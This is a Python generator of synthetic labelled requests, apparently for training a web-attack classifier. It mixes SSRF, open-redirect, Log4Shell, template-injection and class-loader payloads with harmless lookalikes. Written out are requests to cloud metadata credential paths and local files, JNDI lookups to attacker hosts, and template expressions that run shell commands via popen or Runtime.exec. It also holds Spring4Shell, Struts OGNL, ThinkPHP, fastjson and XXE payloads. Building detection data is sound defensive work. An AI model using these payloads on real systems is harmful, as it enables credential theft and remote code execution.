"""Attacks on what runs behind a request: server-side requests, templates, class loaders, look-ups, objects; and harmless kin of each.

Forms: OWASP Web Security Testing Guide (WSTG-INPV-17 to -20), PortSwigger's server-side template injection, CVE-2021-44228 and the
disguises in OWASP CRS rule 944150, CVE-2022-22965, CVE-2017-5638.  Hosts are example domains and RFC 5737 addresses.  The task has no
label for them: what makes the server run something is cmd-injection, what sends it or the client elsewhere is open-redirect.
"""

from __future__ import annotations

import random

from tools.synth.evasion import carrier, escaped, parameters
from tools.synth.uri import REDIRECT_PARAMETERS, request_path
from tools.synth.uri_payloads import document_address, shell_command
from tools.synth.words import EXAMPLE_DOMAINS, brand, domain, syllables, word

Row = tuple[str, str, str]

_METADATA = ("169.254.169.254/latest/meta-data/", "169.254.169.254/latest/meta-data/iam/security-credentials/", "169.254.169.254/computeMetadata/v1/",
             "metadata.google.internal/computeMetadata/v1/instance/", "100.100.100.200/latest/meta-data/", "169.254.169.254/metadata/instance",
             "169.254.170.2/v2/credentials/", "192.0.0.192/latest/user-data", "169.254.169.254/latest/user-data")  # fmt: skip
_INSIDE = ("127.0.0.1", "localhost", "[::1]", "0.0.0.0", "127.1", "2130706433", "0x7f000001", "10.0.0.1", "192.168.1.1", "172.17.0.1")
_SCHEMES = ("gopher://{}:6379/_INFO", "dict://{}:11211/stats", "file:///etc/passwd", "file:///proc/self/environ", "file:///C:/Windows/win.ini",
            "ftp://{}/", "ldap://{}:389/", "tftp://{}/x", "netdoc:///etc/passwd", "jar:http://{}!/")  # fmt: skip
_FETCH = (
    "url",
    "uri",
    "src",
    "image",
    "imageUrl",
    "feed",
    "host",
    "proxy",
    "target",
    "dest",
    "callback",
    "webhook",
    "link",
    "fetch",
    "load",
    "endpoint",
)


def foreign_host(rng: random.Random) -> str:
    """A host of a stranger's."""
    roll = rng.random()
    if roll < 0.25:
        return (
            f"{rng.randbytes(8).hex()}.{rng.choice(('oast.me', 'oast.fun', 'interact.sh', 'burpcollaborator.net', 'dnslog.cn', 'ceye.io'))}"
        )
    if roll < 0.5:
        return document_address(rng) + rng.choice(("", ":8000", ":8080", ":4444"))
    return rng.choice(
        (
            f"evil.{rng.choice(EXAMPLE_DOMAINS)}",
            f"{rng.choice(('attacker', 'evil', 'hacker', syllables(rng, 2)))}.{rng.choice(('com', 'net', 'xyz', 'site'))}",
        )
    )


def request_forgery(rng: random.Random) -> Row:
    """Make the server fetch its own network, its cloud's metadata, or a local file."""
    roll = rng.random()
    if roll < 0.4:
        value = f"http://{rng.choice(_METADATA)}{rng.choice(('', '', syllables(rng, 2), 'ami-id', 'hostname'))}"
    elif roll < 0.75:
        inside = rng.choice(_INSIDE)
        value = f"{rng.choice(('http', 'http', 'https'))}://{inside}{rng.choice(('', ':22', ':80', ':8080', ':6379', ':9200', ':2375'))}/{rng.choice(('', 'admin', 'server-status', 'actuator/env', '_cat/indices', 'containers/json'))}"
    else:
        value = rng.choice(_SCHEMES).format(rng.choice(_INSIDE))
    return f"{request_path(rng)}?{rng.choice(_FETCH)}={value if rng.random() < 0.6 else escaped(value)}", "open-redirect", "ssrf"


def redirect(rng: random.Random) -> Row:
    """Send the client to a stranger's host by a redirect parameter or the path."""
    evil = foreign_host(rng)
    form = rng.choice(
        (
            "//{0}",
            "https://{0}",
            "http://{0}/",
            "///{0}/%2e%2e",
            "/\\{0}",
            "https:/{0}",
            "//{0}/%2f..",
            "https://{1}@{0}",
            "/%09/{0}",
            "http://{1}.{0}",
            "\\\\{0}",
        )
    )
    value = form.format(evil, f"www.{brand(rng)}.com")
    if rng.random() < 0.2:
        return "/" + value, "open-redirect", "redirect"
    extra = f"&{parameters(rng, rng.randint(1, 3))}" if rng.random() < 0.3 else ""
    return (
        f"{request_path(rng)}?{rng.choice(REDIRECT_PARAMETERS)}={value if rng.random() < 0.6 else escaped(value)}{extra}",
        "open-redirect",
        "redirect",
    )


def _disguised(rng: random.Random, text: str) -> str:
    """A look-up's letters written as look-ups of their own."""
    forms = (
        "${{lower:{0}}}",
        "${{upper:{0}}}",
        "${{::-{0}}}",
        "${{env:X:-{0}}}",
        "${{env:{1}:-{0}}}",
        "${{sys:{1}:-{0}}}",
        "${{date:'{0}'}}",
    )
    return "".join(rng.choice(forms).format(c, syllables(rng, 1)) if c.isalpha() and rng.random() < 0.5 else c for c in text)


def lookup(rng: random.Random) -> str:
    """A look-up of Log4j, plain or disguised."""
    scheme = rng.choice(("ldap", "ldaps", "rmi", "dns", "iiop", "corba", "nis"))
    jndi, scheme = ("jndi", scheme) if rng.random() < 0.5 else (_disguised(rng, "jndi"), _disguised(rng, scheme))
    return f"${{{jndi}:{scheme}://{foreign_host(rng)}/{rng.choice(('a', 'x', 'Exploit', '${env:USER}', '${sys:java.version}', syllables(rng, 2)))}}}"


def template(rng: random.Random) -> str:
    """An expression for a template engine or an expression language."""
    a, b, command = rng.randint(2, 9999), rng.randint(2, 9999), shell_command(rng)
    forms = (
        f"{{{{{a}*{b}}}}}", f"${{{a}*{b}}}", f"#{{{a}*{b}}}", f"<%= {a}*{b} %>", f"*{{{a}*{b}}}", f"@({a}*{b})", f"{{{{{a}*'{b}'}}}}", f"[[${{{a}*{b}}}]]",
        "{{config}}", "{{config.items()}}", "{{self.__init__.__globals__.__builtins__}}", "{{''.__class__.__mro__[1].__subclasses__()}}",
        f"{{{{cycler.__init__.__globals__.os.popen('{command}').read()}}}}", f"{{{{request.application.__globals__.__builtins__.__import__('os').popen('{command}').read()}}}}",
        f'<#assign ex="freemarker.template.utility.Execute"?new()>${{ex("{command}")}}', f"${{T(java.lang.Runtime).getRuntime().exec('{command}')}}",
        f"{{{{['{command}']|filter('system')}}}}", f"{{php}}system('{command}');{{/php}}", f"%{{(#a=@java.lang.Runtime@getRuntime().exec('{command}'))}}",
        "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}", f"__${{new java.util.Scanner(T(java.lang.Runtime).getRuntime().exec('{command}').getInputStream()).next()}}__::.x",
        f"{{{{constructor.constructor('return process')().mainModule.require('child_process').execSync('{command}')}}}}", f"<%= system('{command}') %>", f"<% Runtime.getRuntime().exec(\"{command}\") %>",
        f"require('child_process').exec('{command}')", f"${{@print(system('{command}'))}}", f"assert(system('{command}'))", f"<?php system('{command}');?>", "<?php phpinfo(); ?>",
    )  # fmt: skip
    return rng.choice(forms)


def class_loader(rng: random.Random) -> str:
    """Reach a class loader, a prototype or a serialised object through parameter names."""
    name = syllables(rng, 2)
    forms = (
        f"class.module.classLoader.resources.context.parent.pipeline.first.{rng.choice(('pattern', 'suffix', 'directory', 'prefix', 'fileDateFormat'))}={rng.choice(('.jsp', 'webapps/ROOT', name, '%25%7Bc2%7Di'))}",
        f"class.module.classLoader.DefaultAssertionStatus={name}", "class.classLoader.URLs[0]=0", f"class['module']['classLoader']['resources']={name}",
        f"__proto__[{name}]={rng.choice(('1', 'true', name))}", f"constructor[prototype][{name}]=1", f"__proto__.{name}=polluted",
        f"redirect:${{#a=(new java.lang.ProcessBuilder('{name}')).start()}}", f"method:%23_memberAccess%3d@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS&{name}=1",
        f"_method=__construct&filter[]=system&method=get&server[REQUEST_METHOD]={rng.choice(('id', 'whoami'))}", f"s=/index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=system&vars[1][]={rng.choice(('id', 'whoami', 'ls'))}",
        f'O:{rng.randint(3, 30)}:"{name.title()}":1:{{s:{len(name)}:"{name}";s:2:"id";}}', "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA", f'{{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://{foreign_host(rng)}/{name}","autoCommit":true}}',
        f"-d+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input&{name}", f"{name}[$ne]=1", f"user[$gt]=&{name}[$regex]=.*", f'<!DOCTYPE {name} [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
    )  # fmt: skip
    return rng.choice(forms)


def injection(rng: random.Random) -> Row:
    """A look-up, an expression or an object, bare or behind a parameter."""
    make, family = rng.choice(((lookup, "log4shell"), (template, "template"), (class_loader, "class-loader")))
    value = make(rng)
    if family == "class-loader":
        return (f"{request_path(rng)}?{value}" if rng.random() < 0.7 else value), "cmd-injection", family
    roll = rng.random()
    value = value if roll < 0.3 else carrier(rng) + (value if roll < 0.6 else escaped(value)) if roll < 0.9 else f"/{escaped(value)}"
    return value, "cmd-injection", family


def harmless(rng: random.Random) -> Row:
    """What looks alike and is none: addresses in parameters, expressions of search and of front ends, JSON and dotted names."""
    site = f"{rng.choice(('', 'www.', 'blog.', 'cdn.', 'static.'))}{domain(rng)}"
    page = f"https://{site}/{word(rng)}{rng.choice(('', f'/{word(rng)}', '.html', f'?id={rng.randrange(9999)}'))}"
    forms = (
        f"{request_path(rng)}?{rng.choice(('url', 'u', 'link', 'ref', 'referer', 'src', 'image', 'share', 'return_to', 'next'))}={escaped(page) if rng.random() < 0.5 else quote_all(page)}",
        f"/share?url={quote_all(page)}&text={word(rng)}+{word(rng)}", f"{request_path(rng)}?{rng.choice(REDIRECT_PARAMETERS)}=/{word(rng)}/{word(rng)}", f"/login?next=%2F{word(rng)}%2F",
        f"/oauth2/authorize?client_id={rng.randbytes(8).hex()}&redirect_uri={quote_all(f'https://{site}/callback')}&response_type=code", f"/price?q=%24{rng.randrange(999)}", f"{word(rng)} {{{word(rng)}}}",
        f"{request_path(rng)}?filter[{word(rng)}]={word(rng)}&sort=-{word(rng)}", f"{request_path(rng)}?{word(rng)}.{word(rng)}.{word(rng)}={word(rng)}", f"class={word(rng)}", f"{request_path(rng)}?class={word(rng)}&module={word(rng)}",
        f'{{"{word(rng)}":"{word(rng)}","{word(rng)}":{rng.randrange(999)}}}', f"{rng.randrange(99)}*{rng.randrange(99)}", f"{{{{{word(rng)}}}}}", f"${word(rng)}", f"/{word(rng)}/${{{word(rng)}}}", f"//{site}/{word(rng)}.js",
        f"/proxy?url={page}", f"/r?to={quote_all(page)}", f"/ajax/{word(rng)}.php?action={word(rng)}_{word(rng)}&{parameters(rng, rng.randint(1, 8))}", f"{request_path(rng)}?{parameters(rng, rng.randint(2, 12))}",
    )  # fmt: skip
    return rng.choice(forms), "normal", "server-side-kin"


def quote_all(text: str) -> str:
    """Percent-encode all that is reserved."""
    from urllib.parse import quote

    return quote(text, safe="")


def generate(rng: random.Random, n: int) -> list[Row]:
    """Make ``n`` rows, half of them harmless."""
    makers = (request_forgery, redirect, injection)
    return [(harmless if i % 2 else makers[i // 2 % 3])(rng) for i in range(n)]
